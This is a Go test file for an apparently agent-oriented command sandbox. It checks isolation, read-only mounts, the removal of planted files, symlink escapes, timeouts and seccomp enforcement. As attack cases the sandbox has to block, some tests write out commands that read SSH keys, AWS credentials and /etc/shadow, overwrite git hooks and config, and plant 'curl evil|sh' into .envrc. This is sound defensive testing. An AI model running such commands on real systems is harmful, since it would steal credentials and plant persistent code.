package sandbox

import (
	"bytes"
	"context"
	"errors"
	"os"
	"path/filepath"
	"runtime"
	"slices"
	"strconv"
	"strings"
	"sync"
	"syscall"
	"testing"
	"time"

	"golang.org/x/sys/unix"
)

var testEnv = []string{"PATH=/usr/local/bin:/usr/bin:/bin", "LANG=C"}

// sh runs a shell line in a sandbox with spec as the base and returns the
// result and both outputs.
func sh(t *testing.T, base Spec, script string) (Result, string, string) {
	t.Helper()
	var out, errb bytes.Buffer
	s := base
	s.Argv = []string{"/bin/sh", "-c", script}
	if s.Env == nil {
		s.Env = testEnv
	}
	if s.Workspace == "" {
		s.Workspace = t.TempDir()
	}
	if s.Timeout == 0 {
		s.Timeout = time.Minute
	}
	s.Stdout, s.Stderr = &out, &errb
	res, err := Run(context.Background(), s)
	if err != nil {
		t.Fatalf("Run(%q): %v", script, err)
	}
	return res, out.String(), errb.String()
}

func TestRunExitStatus(t *testing.T) {
	needContainers(t)
	ws := t.TempDir()
	if err := os.WriteFile(filepath.Join(ws, "noexec"), []byte("#!/bin/sh\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	tests := []struct {
		name       string
		argv       []string
		wantCode   int
		wantSignal int
		wantStderr string
	}{
		{"success", []string{"true"}, 0, 0, ""},
		{"exit code passes through", []string{"sh", "-c", "exit 42"}, 42, 0, ""},
		{"killed by signal", []string{"sh", "-c", "kill -TERM $$"}, 128 + 15, 15, ""},
		{"killed by SIGKILL", []string{"sh", "-c", "kill -KILL $$"}, 128 + 9, 9, ""},
		{"not found", []string{"no-such-program-xyz"}, 127, 0, "command not found"},
		{"not executable", []string{ws + "/noexec"}, 126, 0, "agentexec:"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			var errb bytes.Buffer
			res, err := Run(context.Background(), Spec{Argv: tt.argv, Env: testEnv, Workspace: ws, Stderr: &errb})
			if err != nil {
				t.Fatalf("Run: %v", err)
			}
			if res.ExitCode != tt.wantCode || res.Signal != tt.wantSignal {
				t.Errorf("got exit %d signal %d, want exit %d signal %d (stderr %q)", res.ExitCode, res.Signal, tt.wantCode, tt.wantSignal, errb.String())
			}
			if !strings.Contains(errb.String(), tt.wantStderr) {
				t.Errorf("got stderr %q, want it to contain %q", errb.String(), tt.wantStderr)
			}
		})
	}
}

func TestRunStdio(t *testing.T) {
	needContainers(t)
	t.Run("readers and writers", func(t *testing.T) {
		var out, errb bytes.Buffer
		res, err := Run(context.Background(), Spec{
			Argv: []string{"sh", "-c", "tr a-z A-Z; echo oops >&2"}, Env: testEnv, Workspace: t.TempDir(),
			Stdin: strings.NewReader("hello\n"), Stdout: &out, Stderr: &errb,
		})
		if err != nil || res.ExitCode != 0 {
			t.Fatalf("Run: %v, exit %d", err, res.ExitCode)
		}
		if out.String() != "HELLO\n" || errb.String() != "oops\n" {
			t.Errorf("got stdout %q stderr %q, want %q and %q", out.String(), errb.String(), "HELLO\n", "oops\n")
		}
	})
	t.Run("files", func(t *testing.T) {
		dir := t.TempDir()
		outF, _ := os.Create(filepath.Join(dir, "out"))
		defer outF.Close()
		res, err := Run(context.Background(), Spec{Argv: []string{"sh", "-c", "echo to-file; ls /proc/self/fd"}, Env: testEnv, Workspace: t.TempDir(), Stdout: outF})
		if err != nil || res.ExitCode != 0 {
			t.Fatalf("Run: %v, exit %d", err, res.ExitCode)
		}
		got, _ := os.ReadFile(outF.Name())
		// ls itself holds one directory descriptor (3); nothing else leaks.
		if want := "to-file\n0\n1\n2\n3\n"; string(got) != want {
			t.Errorf("got %q, want %q: the child must see only fds 0-2", got, want)
		}
	})
	t.Run("nil stdin reads nothing", func(t *testing.T) {
		res, out, _ := sh(t, Spec{}, "wc -c")
		if res.ExitCode != 0 || strings.TrimSpace(out) != "0" {
			t.Errorf("got exit %d output %q, want 0 and \"0\"", res.ExitCode, out)
		}
	})
}

func TestRunIdentity(t *testing.T) {
	needContainers(t)
	ws := t.TempDir()
	res, out, errOut := sh(t, Spec{Workspace: ws}, `id -u; echo data > made; mkdir sub; cat /proc/self/uid_map`)
	if res.ExitCode != 0 {
		t.Fatalf("exit %d: %s", res.ExitCode, errOut)
	}
	if id := strings.Fields(out)[0]; id == "0" {
		t.Errorf("got uid %s inside, want a non-root uid", id)
	}
	for _, name := range []string{"made", "sub"} {
		var st unix.Stat_t
		if err := unix.Stat(filepath.Join(ws, name), &st); err != nil {
			t.Fatal(err)
		}
		if int(st.Uid) != os.Geteuid() || int(st.Gid) != os.Getegid() {
			t.Errorf("%s: got owner %d:%d on the host, want the caller %d:%d", name, st.Uid, st.Gid, os.Geteuid(), os.Getegid())
		}
	}
}

func TestRunFileSystemView(t *testing.T) {
	needContainers(t)
	home := t.TempDir()
	ws := filepath.Join(home, "proj")
	secret := filepath.Join(home, "agentexec-state")
	for _, d := range []string{".ssh", ".aws", "proj/.git/hooks", "proj/lib/.git", "proj/.vscode", "agentexec-state"} {
		if err := os.MkdirAll(filepath.Join(home, d), 0o755); err != nil {
			t.Fatal(err)
		}
	}
	files := map[string]string{
		".ssh/id_ed25519": "PRIVATE", ".aws/credentials": "AWSKEY", ".netrc": "NETRC", ".bashrc": "rc",
		"proj/.git/config": "[core]\n", "proj/lib/.git/config": "[core]\n", "proj/.envrc": "x",
		"agentexec-state/key": "AUDITKEY", "proj/src.go": "package x\n",
	}
	for name, data := range files {
		if err := os.WriteFile(filepath.Join(home, name), []byte(data), 0o600); err != nil {
			t.Fatal(err)
		}
	}
	hostTmp := "/tmp/agentexec-sandbox-test-" + filepath.Base(home)
	t.Cleanup(func() { os.Remove(hostTmp) })
	base := Spec{Workspace: ws, Home: home, Hidden: []string{secret}}

	tests := []struct {
		name   string
		script string
		ok     bool
	}{
		{"workspace writable", "echo x > new.txt && cat src.go", true},
		{"tmp writable", "echo x > /tmp/a && cat /tmp/a", true},
		{"home readable", "cat " + home + "/.bashrc", true},
		{"ssh key hidden", "cat " + home + "/.ssh/id_ed25519", false},
		{"ssh dir empty", "test -z \"$(ls -A " + home + "/.ssh)\"", true},
		{"aws hidden", "cat " + home + "/.aws/credentials", false},
		{"netrc hidden", "grep -q NETRC " + home + "/.netrc", false},
		{"hidden state dir", "cat " + secret + "/key", false},
		{"home not writable", "echo x > " + home + "/.bashrc", false},
		{"usr not writable", "touch /usr/x", false},
		{"etc not writable", "touch /etc/x", false},
		{"root fs not writable", "touch /x", false},
		{"no sys", "test -e /sys/kernel", false},
		{"no root home", "ls /root", false},
		{"shadow unreadable", "cat /etc/shadow", false},
		{"git hooks read-only", "echo evil > .git/hooks/pre-commit", false},
		{"git config read-only", "echo evil >> .git/config", false},
		{"nested git config read-only", "echo evil >> lib/.git/config", false},
		{"vscode read-only", "echo '{}' > .vscode/tasks.json", false},
		{"claude created read-only", "echo '{}' > .claude/settings.json", false},
		{"envrc read-only", "echo evil >> .envrc", false},
		{"proc kcore masked", "test -s /proc/kcore", false},
		{"proc sys read-only", "echo 1 > /proc/sys/kernel/ns_last_pid", false},
		{"host tmp not shared", "touch " + hostTmp + " && test -e " + hostTmp, true},
		{"only loopback", "test \"$(ls /proc/sys/net/ipv4/conf | tr '\\n' ' ')\" = 'all default lo '", true},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			res, _, errOut := sh(t, base, tt.script)
			if got := res.ExitCode == 0; got != tt.ok {
				t.Errorf("%q: got success=%v (exit %d, stderr %q), want %v", tt.script, got, res.ExitCode, errOut, tt.ok)
			}
		})
	}
	if _, err := os.Stat(hostTmp); err == nil {
		t.Errorf("a file written to /tmp inside appeared in the host's /tmp")
	}
	for name, data := range files {
		got, err := os.ReadFile(filepath.Join(home, name))
		if err != nil || string(got) != data {
			t.Errorf("%s changed on the host: got %q, %v", name, got, err)
		}
	}
}

// TestRunReadOnlyWorkspace: with ReadOnlyWorkspace the command reads the
// workspace but every write there fails with EROFS and leaves the host
// unchanged, while a Writable grant below it stays writable.
func TestRunReadOnlyWorkspace(t *testing.T) {
	needContainers(t)
	ws := t.TempDir()
	out := filepath.Join(ws, "out")
	if err := os.Mkdir(out, 0o755); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(filepath.Join(ws, "src.go"), []byte("package x\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	base := Spec{Workspace: ws, ReadOnlyWorkspace: true, Writable: []string{out}}
	// strerror(EROFS), as the tools inside print it.
	erofs := "Read-only file system"
	tests := []struct {
		name, script string
		ok           bool
		wantStderr   string
	}{
		{"read a file", "grep -q 'package x' src.go", true, ""},
		{"overwrite a file", "echo evil > src.go", false, erofs},
		{"append to a file", "echo evil >> src.go", false, erofs},
		{"create a file", "echo x > new.txt", false, erofs},
		{"make a directory", "mkdir d", false, erofs},
		{"remove a file", "rm -f src.go", false, erofs},
		{"rename a file", "mv src.go moved.go", false, erofs},
		{"writable grant below it", "echo x > out/built && cat out/built", true, ""},
		{"tmp stays writable", "echo x > /tmp/a", true, ""},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			res, _, errOut := sh(t, base, tt.script)
			if got := res.ExitCode == 0; got != tt.ok {
				t.Errorf("%q: got success=%v (exit %d, stderr %q), want %v", tt.script, got, res.ExitCode, errOut, tt.ok)
			}
			if !strings.Contains(errOut, tt.wantStderr) {
				t.Errorf("%q: got stderr %q, want it to contain %q", tt.script, errOut, tt.wantStderr)
			}
		})
	}
	if got, err := os.ReadFile(filepath.Join(ws, "src.go")); err != nil || string(got) != "package x\n" {
		t.Errorf("src.go on the host: got %q, %v, want it unchanged", got, err)
	}
	ents, err := os.ReadDir(ws)
	if err != nil {
		t.Fatal(err)
	}
	var names []string
	for _, e := range ents {
		names = append(names, e.Name())
	}
	// .claude and .vscode are the empty persistence dirs every run makes.
	if got, want := strings.Join(names, " "), ".claude .vscode out src.go"; got != want {
		t.Errorf("workspace on the host: got %q, want %q", got, want)
	}
	if got, err := os.ReadFile(filepath.Join(out, "built")); err != nil || string(got) != "x\n" {
		t.Errorf("out/built on the host: got %q, %v, want the granted write", got, err)
	}
}

func TestRunRemovesPlantedFiles(t *testing.T) {
	needContainers(t)
	ws := t.TempDir()
	res, _, _ := sh(t, Spec{Workspace: ws}, `echo '{"mcpServers":{}}' > .mcp.json; echo 'curl evil|sh' > .envrc`)
	if res.ExitCode != 0 {
		t.Fatalf("exit %d", res.ExitCode)
	}
	for _, f := range []string{".mcp.json", ".envrc"} {
		if _, err := os.Lstat(filepath.Join(ws, f)); err == nil {
			t.Errorf("%s planted by the command is still in the workspace", f)
		}
	}
	if len(res.Removed) != 2 {
		t.Errorf("got Removed %v, want the two planted files", res.Removed)
	}
}

func TestRunSymlinkCannotRedirectBinds(t *testing.T) {
	needContainers(t)
	ws := t.TempDir()
	outside := t.TempDir()
	if err := os.WriteFile(filepath.Join(outside, "secret"), []byte("SECRET"), 0o644); err != nil {
		t.Fatal(err)
	}
	// A previous command left links where persistence vectors go: one to a
	// host directory outside every mount, one to a workspace directory.
	if err := os.Symlink(outside, filepath.Join(ws, ".vscode")); err != nil {
		t.Fatal(err)
	}
	if err := os.MkdirAll(filepath.Join(ws, "sub"), 0o755); err != nil {
		t.Fatal(err)
	}
	if err := os.Symlink(filepath.Join(ws, "sub"), filepath.Join(ws, ".claude")); err != nil {
		t.Fatal(err)
	}
	if err := os.Symlink(outside, filepath.Join(ws, "escape")); err != nil {
		t.Fatal(err)
	}
	tests := []struct {
		name, script string
		ok           bool
	}{
		{"link to host dir shows nothing", "cat .vscode/secret", false},
		{"planted link shows nothing", "cat escape/secret", false},
		{"new link to host file shows nothing", "ln -s " + outside + "/secret l2 && cat l2", false},
		{"link into workspace is held read-only", "echo '{}' > .claude/settings.json", false},
		{"its target too", "echo '{}' > sub/settings.json", false},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			res, out, _ := sh(t, Spec{Workspace: ws}, tt.script)
			if got := res.ExitCode == 0; got != tt.ok || strings.Contains(out, "SECRET") {
				t.Errorf("%q: got success=%v output %q, want success=%v and no secret", tt.script, got, out, tt.ok)
			}
		})
	}
	if got, err := os.ReadFile(filepath.Join(outside, "secret")); err != nil || string(got) != "SECRET" {
		t.Errorf("the link target changed: %q, %v", got, err)
	}
}

func TestRunSignals(t *testing.T) {
	needContainers(t)
	sigs := make(chan os.Signal, 1)
	var out bytes.Buffer
	// A unique duration finds the sleep from the host: the signal must go
	// out once the command is running (a shell that has forked but not yet
	// exec'd its child would swallow it, in or out of a sandbox).
	arg := "60." + strconv.Itoa(os.Getpid())
	done := make(chan Result, 1)
	go func() {
		res, err := Run(context.Background(), Spec{
			Argv: []string{"sh", "-c", "sleep " + arg + "; echo not-interrupted"}, Env: testEnv,
			Workspace: t.TempDir(), Stdout: &syncWriter{w: &out}, Signals: sigs,
		})
		if err != nil {
			t.Errorf("Run: %v", err)
		}
		done <- res
	}()
	waitFor(t, func() bool { return len(findProcess("sleep\x00"+arg)) > 0 })
	sigs <- syscall.SIGINT
	select {
	case res := <-done:
		if res.ExitCode != 130 || res.Signal != 2 {
			t.Errorf("got exit %d signal %d, want 130 and 2 like bash after Ctrl-C", res.ExitCode, res.Signal)
		}
	case <-time.After(20 * time.Second):
		t.Fatal("SIGINT did not end the command")
	}
}

func TestRunTimeoutAndCancel(t *testing.T) {
	needContainers(t)
	t.Run("timeout", func(t *testing.T) {
		start := time.Now()
		res, err := Run(context.Background(), Spec{Argv: []string{"sleep", "60"}, Env: testEnv, Workspace: t.TempDir(), Timeout: 300 * time.Millisecond})
		if err != nil {
			t.Fatal(err)
		}
		if !res.TimedOut || res.ExitCode != 143 {
			t.Errorf("got TimedOut %v exit %d, want true and 143", res.TimedOut, res.ExitCode)
		}
		if d := time.Since(start); d > 20*time.Second {
			t.Errorf("took %v after a 300ms timeout", d)
		}
	})
	t.Run("term ignored then killed", func(t *testing.T) {
		res, err := Run(context.Background(), Spec{Argv: []string{"sh", "-c", "trap '' TERM; sleep 60"}, Env: testEnv, Workspace: t.TempDir(), Timeout: 200 * time.Millisecond})
		if err != nil {
			t.Fatal(err)
		}
		if !res.TimedOut || res.ExitCode != 137 {
			t.Errorf("got TimedOut %v exit %d, want true and 137", res.TimedOut, res.ExitCode)
		}
	})
	t.Run("context cancelled before the start", func(t *testing.T) {
		ctx, cancel := context.WithCancel(context.Background())
		cancel()
		ws := t.TempDir()
		_, err := Run(ctx, Spec{Argv: []string{"touch", "ran"}, Env: testEnv, Workspace: ws})
		var se *SetupError
		if !errors.As(err, &se) || !errors.Is(err, context.Canceled) {
			t.Errorf("got %v, want a *SetupError wrapping context.Canceled", err)
		}
		if _, err := os.Stat(filepath.Join(ws, "ran")); err == nil {
			t.Errorf("the command ran after its context was cancelled")
		}
	})
	t.Run("context cancelled", func(t *testing.T) {
		ctx, cancel := context.WithTimeout(context.Background(), 300*time.Millisecond)
		defer cancel()
		res, err := Run(ctx, Spec{Argv: []string{"sleep", "60"}, Env: testEnv, Workspace: t.TempDir()})
		if err != nil {
			t.Fatal(err)
		}
		if res.ExitCode != 143 || res.TimedOut {
			t.Errorf("got exit %d TimedOut %v, want 143 and false", res.ExitCode, res.TimedOut)
		}
	})
}

func TestRunKillsLeftovers(t *testing.T) {
	needContainers(t)
	marker := "agentexec-leftover-" + filepath.Base(t.TempDir())
	res, _, _ := sh(t, Spec{}, "setsid sh -c 'exec -a "+marker+" sleep 300' </dev/null >/dev/null 2>&1 & echo started")
	if res.ExitCode != 0 {
		t.Fatalf("exit %d", res.ExitCode)
	}
	if pids := findProcess(marker); len(pids) != 0 {
		t.Errorf("got processes %v still running after the command ended, want none", pids)
	}
}

func TestRunTTY(t *testing.T) {
	needContainers(t)
	var out bytes.Buffer
	resize := make(chan WinSize, 1)
	res, err := Run(context.Background(), Spec{
		Argv: []string{"sh", "-c", "tty; stty size; test -t 0 && echo stdin-is-tty"}, Env: testEnv, Workspace: t.TempDir(),
		TTY: true, WinSize: WinSize{Rows: 33, Cols: 101}, Resize: resize, Stdout: &out,
	})
	if err != nil || res.ExitCode != 0 {
		t.Fatalf("Run: %v exit %d, output %q", err, res.ExitCode, out.String())
	}
	got := strings.ReplaceAll(out.String(), "\r", "")
	for _, want := range []string{"/dev/pts/", "33 101", "stdin-is-tty"} {
		if !strings.Contains(got, want) {
			t.Errorf("got %q, want it to contain %q", got, want)
		}
	}
}

func TestRunFiles(t *testing.T) {
	needContainers(t)
	res, out, _ := sh(t, Spec{Files: map[string][]byte{"/run/secrets/token": []byte("tok")}}, "cat /run/secrets/token; stat -c %a /run/secrets/token")
	if res.ExitCode != 0 || out != "tok600\n" {
		t.Errorf("got exit %d output %q, want 0 and %q", res.ExitCode, out, "tok600\n")
	}
}

func TestRunCaches(t *testing.T) {
	needContainers(t)
	cache := filepath.Join(t.TempDir(), "cache")
	base := Spec{CacheDir: cache, Env: append(append([]string{}, testEnv...), CacheEnv(cache)...)}
	if res, _, e := sh(t, base, `echo built > "$GOCACHE/entry"`); res.ExitCode != 0 {
		t.Fatalf("exit %d: %s", res.ExitCode, e)
	}
	res, out, _ := sh(t, base, `cat "$GOCACHE/entry"`)
	if res.ExitCode != 0 || out != "built\n" {
		t.Errorf("got %q (exit %d) from the second command, want the cache entry of the first", out, res.ExitCode)
	}
	var st unix.Stat_t
	if err := unix.Stat(filepath.Join(cache, "go-build", "entry"), &st); err != nil || int(st.Uid) != os.Geteuid() {
		t.Errorf("cache entry on the host: %v, owner %d, want the caller %d", err, st.Uid, os.Geteuid())
	}
}

func TestInside(t *testing.T) {
	needContainers(t)
	t.Setenv("_LIBCONTAINER_INITPIPE", "3") // a host env cannot fake it
	if Inside() {
		t.Fatal("Inside() is true on the host")
	}
	self, err := os.Executable()
	if err != nil {
		t.Fatal(err)
	}
	res, out, errOut := sh(t, Spec{
		Env:    append([]string{helperEnv + "=inside"}, testEnv...),
		Mounts: []Mount{{Source: self, Dest: "/run/helper/t.test"}},
	}, "/run/helper/t.test")
	if res.ExitCode != 0 || out != "inside: true\n" {
		t.Errorf("got %q (exit %d, %s), want %q", out, res.ExitCode, errOut, "inside: true\n")
	}
}

func TestRunConcurrent(t *testing.T) {
	needContainers(t)
	var wg sync.WaitGroup
	errs := make(chan string, 8)
	for i := range 8 {
		wg.Add(1)
		go func() {
			defer wg.Done()
			var out bytes.Buffer
			res, err := Run(context.Background(), Spec{Argv: []string{"sh", "-c", "echo $0", string(rune('a' + i))}, Env: testEnv, Workspace: t.TempDir(), Stdout: &out})
			if err != nil || res.ExitCode != 0 || out.String() != string(rune('a'+i))+"\n" {
				errs <- err.Error() + out.String()
			}
		}()
	}
	wg.Wait()
	close(errs)
	for e := range errs {
		t.Errorf("concurrent run failed: %s", e)
	}
}

// TestRunSurvivesThreadExits: the container's init dies with the OS thread
// that started it (ParentDeathSignal is per thread), and goroutines that
// lock their thread and return (libcontainer's own mount thread, anything
// else in the caller's process) end the thread they ran on. Run must keep
// the starting thread alive while the container lives, so a command is
// never killed by a thread exit elsewhere in the process.
func TestRunSurvivesThreadExits(t *testing.T) {
	needContainers(t)
	stop := make(chan struct{})
	var churn sync.WaitGroup
	for range 2 {
		churn.Add(1)
		go func() {
			defer churn.Done()
			for {
				select {
				case <-stop:
					return
				default:
				}
				done := make(chan struct{})
				go func() {
					// Locked and never unlocked: the thread exits with
					// the goroutine.
					runtime.LockOSThread()
					close(done)
				}()
				<-done
				time.Sleep(100 * time.Microsecond)
			}
		}()
	}
	defer func() { close(stop); churn.Wait() }()
	ws := t.TempDir()
	for i := range 20 {
		var errb bytes.Buffer
		res, err := Run(context.Background(), Spec{Argv: []string{"sh", "-c", "sleep 0.05; exit 3"}, Env: testEnv, Workspace: ws, Stderr: &errb})
		if err != nil || res.ExitCode != 3 {
			t.Fatalf("run %d: got exit %d, err %v (stderr %q), want exit 3", i, res.ExitCode, err, errb.String())
		}
	}
}

// TestRunGate: the command runs only after the gate yields nil; an error
// from the gate, or ctx ending while it is closed, runs nothing.
func TestRunGate(t *testing.T) {
	needContainers(t)
	t.Run("nil opens it", func(t *testing.T) {
		ws := t.TempDir()
		gate := make(chan error, 1)
		go func() {
			time.Sleep(50 * time.Millisecond)
			// Written just before the gate opens: a command that ran
			// earlier would not find it.
			if err := os.WriteFile(filepath.Join(ws, "opened"), []byte("yes\n"), 0o644); err != nil {
				gate <- err
				return
			}
			gate <- nil
		}()
		var out bytes.Buffer
		res, err := Run(context.Background(), Spec{Argv: []string{"cat", "opened"}, Env: testEnv, Workspace: ws, Stdout: &out, Gate: gate})
		if err != nil || res.ExitCode != 0 || out.String() != "yes\n" {
			t.Errorf("got exit %d, err %v, output %q, want exit 0 and %q", res.ExitCode, err, out.String(), "yes\n")
		}
		var names []string
		for _, p := range res.Phases {
			names = append(names, p.Name)
		}
		if got, want := strings.Join(names, " "), "validate prepare create start gate wait destroy"; got != want {
			t.Errorf("got phases %q, want %q", got, want)
		}
	})
	refused := errors.New("audit log unavailable")
	cancelled, cancel := context.WithCancel(context.Background())
	defer cancel()
	tests := []struct {
		name       string
		ctx        context.Context
		send       error
		wantErr    error
		wantPhases string
	}{
		{"error refuses", context.Background(), refused, refused, "gate"},
		// A slow start may see the cancellation before the gate does.
		{"context ends first", cancelled, nil, context.Canceled, "start gate"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			ws := t.TempDir()
			gate := make(chan error, 1)
			if tt.send != nil {
				gate <- tt.send
			} else {
				go func() { time.Sleep(50 * time.Millisecond); cancel() }()
			}
			var errb bytes.Buffer
			res, err := Run(tt.ctx, Spec{Argv: []string{"touch", "ran"}, Env: testEnv, Workspace: ws, Stderr: &errb, Gate: gate})
			var se *SetupError
			if !errors.As(err, &se) || !slices.Contains(strings.Fields(tt.wantPhases), se.Phase) || !errors.Is(err, tt.wantErr) {
				t.Fatalf("got err %v (exit %d), want a *SetupError for phase %s wrapping %v", err, res.ExitCode, tt.wantPhases, tt.wantErr)
			}
			if _, err := os.Lstat(filepath.Join(ws, "ran")); err == nil {
				t.Errorf("the command ran although the gate refused")
			}
			if errb.Len() != 0 {
				t.Errorf("got stderr %q, want none", errb.String())
			}
		})
	}
}

func TestRunInvalidSpec(t *testing.T) {
	ws := t.TempDir()
	tests := []struct {
		name      string
		spec      Spec
		wantCheck string
	}{
		{"no argv", Spec{Workspace: ws}, "argv"},
		{"no workspace", Spec{Argv: []string{"true"}}, "workspace"},
		{"relative workspace", Spec{Argv: []string{"true"}, Workspace: "rel"}, "workspace"},
		{"root workspace", Spec{Argv: []string{"true"}, Workspace: "/"}, "workspace"},
		{"etc workspace", Spec{Argv: []string{"true"}, Workspace: "/etc"}, "workspace"},
		{"writable usr", Spec{Argv: []string{"true"}, Workspace: ws, Writable: []string{"/usr/lib"}}, "writable"},
		{"workspace in hidden", Spec{Argv: []string{"true"}, Workspace: ws, Hidden: []string{filepath.Dir(ws)}}, "paths"},
		{"file outside tmpfs", Spec{Argv: []string{"true"}, Workspace: ws, Files: map[string][]byte{"/etc/x": nil}}, "files"},
		{"negative limit", Spec{Argv: []string{"true"}, Workspace: ws, Limits: Limits{Pids: -1}}, "limits"},
		{"netns not a namespace", Spec{Argv: []string{"true"}, Workspace: ws, NetNS: ws}, "netns"},
		{"cwd outside the view", Spec{Argv: []string{"true"}, Workspace: ws, Cwd: "/var"}, "cwd"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			_, err := Run(context.Background(), tt.spec)
			var ce *CheckError
			var se *SetupError
			if !errors.As(err, &se) || !errors.As(err, &ce) || !errors.Is(err, ErrInvalidSpec) {
				t.Fatalf("got %v, want a *SetupError wrapping a *CheckError and ErrInvalidSpec", err)
			}
			if ce.Check != tt.wantCheck {
				t.Errorf("got check %q (%v), want %q", ce.Check, err, tt.wantCheck)
			}
		})
	}
}

func TestSwapMap(t *testing.T) {
	m := swapMap(0, 1000)
	lookup := func(disk int64) int64 {
		for _, e := range m {
			if disk >= e.ContainerID && disk < e.ContainerID+e.Size {
				return e.HostID + disk - e.ContainerID - hostBase
			}
		}
		return -1
	}
	for _, tt := range []struct{ disk, want int64 }{{0, 1000}, {1000, 0}, {1, 1}, {999, 999}, {1001, 1001}, {65535, 65535}} {
		if got := lookup(tt.disk); got != tt.want {
			t.Errorf("disk id %d: got inside id %d, want %d", tt.disk, got, tt.want)
		}
	}
}

type syncWriter struct {
	w *bytes.Buffer
}

var syncMu sync.Mutex

func (s *syncWriter) Write(p []byte) (int, error) {
	syncMu.Lock()
	defer syncMu.Unlock()
	return s.w.Write(p)
}

func waitFor(t *testing.T, cond func() bool) {
	t.Helper()
	deadline := time.Now().Add(20 * time.Second)
	for !cond() {
		if time.Now().After(deadline) {
			t.Fatal("condition not met within 20s")
		}
		time.Sleep(10 * time.Millisecond)
	}
}

// findProcess lists host pids whose cmdline starts with name.
func findProcess(name string) []string {
	var pids []string
	ents, _ := os.ReadDir("/proc")
	for _, e := range ents {
		b, err := os.ReadFile(filepath.Join("/proc", e.Name(), "cmdline"))
		if err == nil && strings.HasPrefix(string(b), name) {
			pids = append(pids, e.Name())
		}
	}
	return pids
}

func TestInitPathAgreesWithReaper(t *testing.T) {
	if got := cInitPath(); got != initPath {
		t.Errorf("got reaper.c path %q, want %q", got, initPath)
	}
}

func TestRunSameWriterForBoth(t *testing.T) {
	needContainers(t)
	var out bytes.Buffer
	res, err := Run(context.Background(), Spec{
		Argv: []string{"sh", "-c", "for i in 1 2 3 4 5 6 7 8; do echo out$i; echo err$i >&2; done"}, Env: testEnv,
		Workspace: t.TempDir(), Stdout: &out, Stderr: &out,
	})
	if err != nil || res.ExitCode != 0 {
		t.Fatalf("Run: %v exit %d", err, res.ExitCode)
	}
	want := ""
	for i := 1; i <= 8; i++ {
		want += "out" + strconv.Itoa(i) + "\nerr" + strconv.Itoa(i) + "\n"
	}
	if out.String() != want {
		t.Errorf("got %q, want %q: both streams, in order, nothing lost", out.String(), want)
	}
}

// TestRunRefusesWithoutSeccompFilter: the container's PID 1 installs the
// seccomp filter agentexec compiled before it acts on anything else, and
// with no filter, or one the kernel refuses, nothing runs: the run ends
// with 125 and the command's file is never written.
func TestRunRefusesWithoutSeccompFilter(t *testing.T) {
	needContainers(t)
	good, err := seccompFilter()
	if err != nil {
		t.Fatal(err)
	}
	if len(good) == 0 || len(good)%8 != 0 {
		t.Fatalf("compiled filter is %d bytes, want a non-empty whole number of 8-byte instructions", len(good))
	}
	orig := seccompFilter
	t.Cleanup(func() { seccompFilter = orig })
	for name, prog := range map[string][]byte{
		"empty":             nil,
		"not instructions":  good[:len(good)-3],
		"refused by kernel": make([]byte, 8), // BPF_LD|BPF_W|BPF_ABS at 0 and no return
	} {
		t.Run(name, func(t *testing.T) {
			seccompFilter = func() ([]byte, error) { return prog, nil }
			ws := t.TempDir()
			var errb bytes.Buffer
			res, err := Run(context.Background(), Spec{Argv: []string{"touch", filepath.Join(ws, "ran")}, Env: testEnv, Workspace: ws, Stderr: &errb})
			if err != nil {
				t.Fatalf("Run: %v", err)
			}
			if res.ExitCode != 125 {
				t.Errorf("got exit %d, want 125 (stderr %q)", res.ExitCode, errb.String())
			}
			if !strings.Contains(errb.String(), "seccomp") {
				t.Errorf("got stderr %q, want it to name the seccomp filter", errb.String())
			}
			if _, err := os.Stat(filepath.Join(ws, "ran")); err == nil {
				t.Error("the command ran")
			}
		})
	}
	seccompFilter = orig
	// And with the real filter the same command runs, under it.
	ws := t.TempDir()
	var out bytes.Buffer
	res, err := Run(context.Background(), Spec{Argv: []string{"sh", "-c", "touch ran; grep Seccomp: /proc/self/status"}, Env: testEnv, Workspace: ws, Stdout: &out})
	if err != nil || res.ExitCode != 0 {
		t.Fatalf("Run: exit %d, %v", res.ExitCode, err)
	}
	if !strings.Contains(out.String(), "Seccomp:\t2") {
		t.Errorf("got %q, want the command in seccomp filter mode (2)", out.String())
	}
}
